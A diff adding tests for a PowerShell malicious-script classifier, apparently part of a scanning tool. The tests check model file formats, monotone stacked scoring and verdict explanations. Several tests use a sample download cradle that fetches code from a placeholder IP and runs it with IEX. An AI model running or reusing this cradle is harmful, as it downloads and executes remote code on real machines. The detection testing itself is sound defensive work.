@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import functools
 import random
 from pathlib import Path
 
@@ -150,3 +151,119 @@ def test_near_duplicate_groups_work_block_by_block() -> None:
     blocks = near_duplicate_groups(copies, block=7)
     assert whole == blocks
     assert all(whole[i] == whole[i + len(texts)] for i in range(len(texts)))
+
+
+@functools.cache
+def _fitted(seed: int = 7) -> ScriptClassifier:
+    """One stacked model for the tests below (fitting runs several inner cross-validations)."""
+    texts, labels = _toy(40, seed)
+    clf = ScriptClassifier()
+    clf.fit("powershell", texts, labels)
+    return clf
+
+
+def test_stacked_model_round_trips_through_its_file_with_the_format_version(tmp_path: Path) -> None:
+    from phagocyte.analysers.classifier import FORMAT, stack_features
+    from phagocyte.analysers.scripts.heuristics import match_rules
+
+    clf = _fitted()
+    held, _ = _toy(6, 8)
+    feats = [stack_features("powershell", match_rules("powershell", t), []) for t in held]
+    before = [clf.judge("powershell", t, f) for t, f in zip(held, feats, strict=True)]
+    clf.save(tmp_path / "m")
+    assert ScriptClassifier.problem(tmp_path / "m") is None
+    again = ScriptClassifier.load(tmp_path / "m")
+    assert again.meta["format"] == FORMAT
+    assert [again.judge("powershell", t, f) for t, f in zip(held, feats, strict=True)] == before
+    st = again.meta["languages"]["powershell"]["stack"]
+    assert 0.05 <= st["threshold"] <= 0.95 and len(st["weights"]) == 1 + len(feats[0])
+    assert "stacked combination" in (tmp_path / "m" / "MODEL_CARD.md").read_text()
+
+
+def test_a_model_without_the_stacked_combination_is_refused_with_a_clear_message(tmp_path: Path) -> None:
+    import json
+
+    from phagocyte.errors import InputError
+
+    clf = _fitted()
+    clf.save(tmp_path / "m")
+    meta = json.loads((tmp_path / "m" / "meta.json").read_text())
+    del meta["format"]  # as every model saved before format 2
+    (tmp_path / "m" / "meta.json").write_text(json.dumps(meta))
+    with pytest.raises(InputError, match=r"phagocyte-scan-model/1.*retrain"):
+        ScriptClassifier.load(tmp_path / "m")
+    res = CliRunner().invoke(app, ["scan", str(tmp_path / "m" / "meta.json"), "--model", str(tmp_path / "m")])
+    assert res.exit_code != 0 and "retrain" in res.output
+    # `phago run` with such a model in the home: a clear error, not a traceback
+    home = tmp_path / "home"
+    (home / "models").mkdir(parents=True)
+    (tmp_path / "m").rename(home / "models" / "scan")
+    (tmp_path / "x.ps1").write_text("Get-Process\n")
+    res = CliRunner().invoke(app, ["run", "--home", str(home), str(tmp_path / "x.ps1")])
+    assert res.exit_code != 0 and "retrain" in res.output
+    assert isinstance(res.exception, SystemExit)
+    # a text model fitted without the combination cannot be saved as a usable model either
+    bare = ScriptClassifier()
+    bare.fit("powershell", *_toy(10, 9), stack=False)
+    with pytest.raises(InputError, match="stacked"):
+        bare.save(tmp_path / "bare")
+
+
+def test_stacked_score_never_falls_as_evidence_grows() -> None:
+    from phagocyte.analysers.classifier import stack_features
+    from phagocyte.analysers.scripts.heuristics import RULES
+    from phagocyte.analysers.verdict import Reason
+
+    clf = _fitted()
+    assert all(w >= 0 for w in clf.meta["languages"]["powershell"]["stack"]["weights"])
+    base = stack_features("powershell", [], [])
+    p = np.linspace(0.001, 0.999, 50)
+    s = clf.combined("powershell", p, [base] * len(p))
+    assert np.all(np.diff(s) >= 0) and s[0] < 0.7 <= s[-1]  # a sure text model crosses the cut on its own
+    # each heuristic hit, and more decoding layers, leave the score equal or higher at every probability
+    for rule in RULES["powershell"][:12]:
+        hit = stack_features("powershell", [Reason("heuristic", rule.name, rule.weight)], [])
+        assert np.all(clf.combined("powershell", p, [hit] * len(p)) >= s - 1e-12)
+    layered = stack_features("powershell", [Reason("heuristic", "obfuscated", 0.5)], ["base64", "iex", "base64"])
+    assert np.all(clf.combined("powershell", p, [layered] * len(p)) >= s - 1e-12)
+    # a reason from another source is not a heuristic feature
+    assert stack_features("powershell", [Reason("yara", RULES["powershell"][0].name, 0.55)], []) == base
+
+
+def test_verdict_with_a_model_keeps_its_reasons_and_is_scored_by_the_stacked_model() -> None:
+    from phagocyte.analysers.verdict import combine
+
+    clf = _fitted()
+    v = Scanner(model=clf).scan_text("$c = New-Object Net.WebClient; IEX $c.DownloadString('http://198.51.100.9/x')")
+    sources = {r.source for r in v.reasons}
+    assert {"heuristic", "model"} <= sources
+    model = next(r for r in v.reasons if r.source == "model")
+    assert "top words:" in model.detail and "p(malicious)=" in model.detail
+    words = model.detail.split("top words: ", 1)[1]
+    assert "new-object" in words.lower() or "downloadstring" in words.lower() or "webclient" in words.lower()
+    assert v.stacked and v.score == round(combine([model.weight]), 4)  # heuristics explain, the model scores
+    assert v.label == "malicious"
+    benign = Scanner(model=clf).scan_text("Get-ChildItem C:\\Logs -Recurse | Where-Object Length -gt 10")
+    assert benign.label == "clean"
+    # without a model the heuristics still score by noisy-OR, unchanged
+    plain = Scanner().scan_text("$c = New-Object Net.WebClient; IEX $c.DownloadString('http://198.51.100.9/x')")
+    assert not plain.stacked and plain.score == round(combine([r.weight for r in plain.reasons]), 4)
+
+
+def test_top_words_name_the_hashed_columns_they_stand_for() -> None:
+    from sklearn.feature_extraction.text import HashingVectorizer
+
+    from phagocyte.analysers.classifier import _top_tokens
+
+    clf = _fitted()
+    model = clf.models["powershell"]
+    text = "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://198.51.100.9/x')"
+    x = model[:-1].transform([text])
+    n = model[0].steps[0][1].n_features
+    one = HashingVectorizer(analyzer=lambda d: [d], n_features=n, alternate_sign=False, norm=None)
+    top = _top_tokens(model, x, text, 5)
+    assert top
+    for item in top:
+        tok = item.rsplit(" (+", 1)[0]
+        col = int(one.transform([tok]).indices[0])  # the column the vectorizer hashes this token to
+        assert x[0, col] != 0 and model[-1].coef_[0][col] > 0
